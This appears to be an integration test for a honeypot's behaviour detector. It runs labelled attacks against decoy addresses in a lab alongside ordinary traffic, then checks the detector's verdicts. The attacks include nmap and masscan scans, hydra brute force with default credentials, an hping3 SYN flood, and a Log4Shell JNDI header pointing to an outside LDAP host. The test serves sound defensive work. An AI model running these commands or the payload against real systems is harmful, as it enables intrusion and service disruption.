// Who did what, told by a whole Weir: labelled attackers with real tools and ordinary noise at once, each with an address of its
// own, and a confusion matrix of label against verdict. No false scan, and every behaviour found.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a payload, not a template

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import type { Behaviour } from '../../src/model/insight.ts';
import { labAddresses, type WeirLab, withWeirLab } from '../../src/programs/weir-lab.ts';
import { lacksKernelTests, lacksProgram, until } from '../support/namespace.ts';

const skip =
  lacksKernelTests() ||
  lacksProgram('nmap', 'nmap') ||
  lacksProgram('masscan', 'masscan') ||
  lacksProgram('hydra', 'hydra') ||
  lacksProgram('hping3', 'hping3') ||
  lacksProgram('ssh', 'openssh-client');

/** A scan in so few seconds that a slow one fits into a test; the days are those of the unit tests. */
const configuration = `
limits: { sessions-per-source: 100000 }
analysis:
  behaviour: { scan-window: 3s }
diversions:
  - name: dmz
    kind: host
    interface: eth0
    decoys:
      - { addresses: 10.64.0.0/17, persona: all-open }
`;

/** Every source is behind the attacker's one address. */
const sources = '172.16.0.0/12';
const decoys = '10.64.0.0/17';

interface Label {
  readonly name: string;
  readonly source: string;
  /** What has to be found, and nothing else. */
  readonly expected: readonly Behaviour[];
  readonly run: (lab: WeirLab, source: string) => Promise<unknown>;
}

const quick = { timeoutMs: 30_000, anyCode: true } as const;
const nmap = (lab: WeirLab, source: string, ...rest: string[]): Promise<unknown> =>
  lab.attacker.run(['nmap', '-n', '-Pn', '--max-retries', '0', '-sS', '-S', source, '-e', 'eth0', ...rest], quick);
const masscan = (lab: WeirLab, source: string, ...rest: string[]): Promise<unknown> =>
  lab.attacker.run(
    [
      'masscan',
      ...rest,
      '--wait',
      '1',
      '-e',
      'eth0',
      '--router-mac',
      '02-00-00-00-00-02',
      '--source-ip',
      source,
      '--source-port',
      '61000',
    ],
    quick,
  );

/** Requests and connections from given addresses; a tool of its own because none lets one choose them all. */
const clientScript = `
const net = require('node:net');
const visit = ({ source, host, port, text, silent }) => new Promise((resolve) => {
  const socket = net.connect({ host, port, localAddress: source });
  const end = () => { socket.destroy(); resolve(); };
  const timer = setTimeout(end, 5000);
  socket.on('error', end);
  socket.on('close', () => { clearTimeout(timer); resolve(); });
  socket.on('connect', () => { if (silent) end(); else socket.write(text); });
  socket.on('data', end);
});
(async () => {
  const visits = JSON.parse(require('node:fs').readFileSync(0, 'utf8'));
  let next = 0;
  await Promise.all(Array.from({ length: 16 }, async () => { while (next < visits.length) await visit(visits[next++]); }));
})();`;

interface Visit {
  readonly source: string;
  readonly host: string;
  readonly port: number;
  readonly text?: string;
  readonly silent?: boolean;
}

const visit = (lab: WeirLab, visits: readonly Visit[]): Promise<unknown> =>
  lab.attacker.run([process.execPath, '-e', clientScript], { input: JSON.stringify(visits), timeoutMs: 30_000 });

const request = (
  target: string,
  agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  more = '',
): string => `GET ${target} HTTP/1.1\r\nHost: intranet\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n${more}\r\n`;

const many = <T>(count: number, make: (index: number) => T): T[] => Array.from({ length: count }, (_, index) => make(index));

async function hydra(lab: WeirLab, source: string, host: string, protocol: string, port: number): Promise<unknown> {
  await lab.attacker.ip(`route add ${host}/32 via ${labAddresses.sensor} src ${source}\n`);
  // Many names and few passwords: it leaves a name as soon as the decoy lets it in.
  const users = path.join(lab.directory, 'users');
  const passwords = path.join(lab.directory, 'passwords');
  writeFileSync(users, 'root\nadmin\nguest\nsupport\nuser\nubnt\npi\noracle\n');
  writeFileSync(passwords, '123456\nxc3511\n');
  return lab.attacker.run(
    ['timeout', '15', 'hydra', '-I', '-t', '4', '-w', '3', '-L', users, '-P', passwords, '-s', String(port), host, protocol],
    quick,
  );
}

const slowPorts = (lab: WeirLab, source: string): Promise<unknown> =>
  nmap(lab, source, '--scan-delay', '400ms', '--max-parallelism', '1', '-p', '7001-7020', '10.64.4.4');

const labels: readonly Label[] = [
  {
    name: 'nmap, 1,000 ports',
    source: '172.16.9.1',
    expected: ['port-scan'],
    run: (lab, source) => nmap(lab, source, '--min-rate', '1000', '-p', '1-1000', '10.64.1.1'),
  },
  {
    name: 'nmap, 64 decoys',
    source: '172.16.9.2',
    expected: ['sweep'],
    run: (lab, source) => nmap(lab, source, '--min-rate', '200', '-p', '445', '10.64.2.0/26'),
  },
  {
    name: 'masscan, 8,192 decoys',
    source: '172.16.9.3',
    expected: ['sweep'],
    run: (lab, source) => masscan(lab, source, '10.64.32.0/19', '-p23', '--rate', '4000'),
  },
  {
    name: 'masscan, 20 ports of 64 decoys',
    source: '172.16.9.4',
    expected: ['block-scan'],
    run: (lab, source) => masscan(lab, source, '10.64.3.0/26', '-p8000-8019', '--rate', '1000'),
  },
  ...[5, 6].map(
    (n): Label => ({ name: `nmap, slow (${n - 4})`, source: `172.16.9.${n}`, expected: ['slow-scan'], run: slowPorts }),
  ),
  {
    name: 'hydra telnet',
    source: '172.16.9.7',
    expected: ['brute-force'],
    run: (lab, source) => hydra(lab, source, '10.64.1.7', 'telnet', 23),
  },
  {
    name: 'hydra ftp',
    source: '172.16.9.8',
    expected: ['brute-force'],
    run: (lab, source) => hydra(lab, source, '10.64.1.8', 'ftp', 21),
  },
  {
    name: 'ssh, 16 logins',
    source: '172.16.9.16',
    expected: ['brute-force'],
    run: (lab, source) =>
      lab.attacker.run(
        [
          'sh',
          '-c',
          'for n in $(seq 16); do ssh -n -F none -o BatchMode=yes -o ConnectTimeout=5 -b "$0" root@10.64.1.16; done',
          source,
        ],
        quick,
      ),
  },
  {
    name: 'walk over paths',
    source: '172.16.9.9',
    expected: ['crawler'],
    run: (lab, source) =>
      visit(
        lab,
        many(120, (n) => ({
          source,
          host: '10.64.1.9',
          port: 80,
          text: request(`/cgi-bin/test${n}.cgi`, 'Mozilla/5.00 (Nikto/2.1.6)'),
        })),
      ),
  },
  {
    name: 'stateless, then a handshake',
    source: '172.16.9.10',
    expected: ['sweep', 'two-phase-scan'],
    run: async (lab, source) => {
      await masscan(lab, source, '10.64.5.0/26', '-p8080', '--rate', '500');
      // A SYN nobody completes is a probe once it has been waited for.
      await until(
        'the first phase is on record',
        async () => (await lab.reader.probes({ source, limit: '10' })).items.length > 0,
        40_000,
      );
      await visit(
        lab,
        many(3, (n) => ({ source, host: `10.64.5.${7 + n}`, port: 8080, text: request('/') })),
      );
    },
  },
  {
    name: 'silent, 25 times',
    source: '172.16.9.11',
    expected: ['silent-opener'],
    run: (lab, source) =>
      visit(
        lab,
        many(25, () => ({ source, host: '10.64.1.11', port: 9999, silent: true })),
      ),
  },
  {
    name: 'SYN flood',
    source: '172.16.9.12',
    expected: ['flood'],
    run: (lab, source) =>
      lab.attacker.run(['hping3', '-S', '-p', '81', '-i', 'u800', '-c', '2500', '-a', source, '10.64.1.12'], quick),
  },
  {
    name: 'exploit',
    source: '172.16.9.13',
    expected: ['exploitation'],
    run: (lab, source) =>
      visit(lab, [
        {
          source,
          host: '10.64.1.13',
          port: 8080,
          text: request('/', 'curl/8.5.0', 'X-Api-Version: ${jndi:ldap://192.0.2.66:1389/a}\r\n'),
        },
      ]),
  },
  {
    name: 'research scanner',
    source: '172.16.9.14',
    expected: ['research-scanner'],
    run: (lab, source) =>
      visit(lab, [
        {
          source,
          host: '10.64.1.14',
          port: 80,
          text: request('/', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'),
        },
      ]),
  },
  {
    name: 'the same page, 30 times',
    source: '172.16.9.15',
    expected: ['repeated-access'],
    run: (lab, source) =>
      visit(
        lab,
        many(30, () => ({ source, host: '10.64.1.15', port: 80, text: request('/') })),
      ),
  },
];

/** Ordinary traffic, which is nothing at all. */
const clients = 1000;
const clientAddress = (index: number): string => `172.17.${index >> 8}.${index & 255}`;
const browser = '172.18.0.1';
const browserPaths = [
  '/',
  '/favicon.ico',
  '/style.css',
  '/logo.png',
  '/login',
  '/robots.txt',
  '/',
  '/login',
  '/',
  '/about',
  '/',
  '/',
];

async function noise(lab: WeirLab): Promise<void> {
  await visit(
    lab,
    many(clients, (n) => ({ source: clientAddress(n), host: '10.64.1.99', port: 80, text: request('/') })),
  );
  await visit(
    lab,
    browserPaths.map((target) => ({ source: browser, host: '10.64.1.98', port: 80, text: request(target) })),
  );
}

interface Found {
  readonly source: string;
  readonly behaviour: Behaviour;
  readonly hits: number;
}

let last: readonly Found[] = [];

const missed = (found: readonly Found[]): string[] =>
  labels.flatMap(({ name, source, expected }) =>
    expected
      .filter((behaviour) => !found.some((one) => one.source === source && one.behaviour === behaviour))
      .map((behaviour) => `${name}: no ${behaviour}`),
  );

/** Rows are labels, columns verdicts; `+` marks what had to be. */
function renderMatrix(found: readonly Found[]): string {
  const behaviours = [
    ...new Set([...labels.flatMap(({ expected }) => expected), ...found.map(({ behaviour }) => behaviour)]),
  ].sort();
  const cell = (text: string): string => text.padStart(7);
  const row = (name: string, expected: readonly Behaviour[], belongs: (source: string) => boolean): string =>
    [
      name.padEnd(30),
      ...behaviours.map((behaviour) => {
        const count = found.filter((one) => one.behaviour === behaviour && belongs(one.source)).length;
        return cell(
          count === 0 ? (expected.includes(behaviour) ? 'MISSED' : '.') : `${count}${expected.includes(behaviour) ? '+' : ''}`,
        );
      }),
    ].join('');
  return [
    'label against verdict:',
    ''.padEnd(30) + behaviours.map((behaviour) => cell(behaviour.slice(0, 6))).join(''),
    ...labels.map(({ name, source, expected }) => row(name, expected, (ip) => ip === source)),
    row(`${clients} clients of one port`, [], (ip) => ip.startsWith('172.17.')),
    row('a browser', [], (ip) => ip === browser),
    row('anybody else', [], (ip) => !ip.startsWith('172.')),
  ].join('\n');
}

test('labelled attacks among ordinary noise: every behaviour is found, nothing is called a scan that is none', { skip }, () =>
  withWeirLab({ configuration }, async (lab) => {
    // As from beyond a router: one neighbour each way, however many sources and decoys there are.
    await lab.attacker.ip(`route add local ${sources} dev lo\nroute add ${decoys} via ${labAddresses.sensor}\n`);
    await lab.sensor.ip(`route add ${sources} via ${labAddresses.attacker}\n`);
    await lab.up();
    await Promise.all([...labels.map(({ run, source }) => run(lab, source)), noise(lab)]);
    const found = await until(
      'every behaviour is found',
      async () => {
        await lab.settled();
        const told = (await lab.reader.verdicts({ limit: '1000' })).items.map(({ source, weir }) => ({
          ...weir.verdict,
          source: source.ip,
        }));
        last = told;
        return missed(told).length === 0 ? told : undefined;
      },
      30_000,
    ).catch(() => last);
    console.log(renderMatrix(found));
    assert.deepEqual(missed(found), []);
    const noisy = found.filter(({ source }) => !labels.some((label) => label.source === source));
    assert.deepEqual(noisy, [], 'ordinary noise is nothing');
    const wrong = found.filter(
      ({ source, behaviour }) => !labels.find((label) => label.source === source)?.expected.includes(behaviour),
    );
    assert.deepEqual(wrong, [], 'nobody is called what he is not');
  }),
);
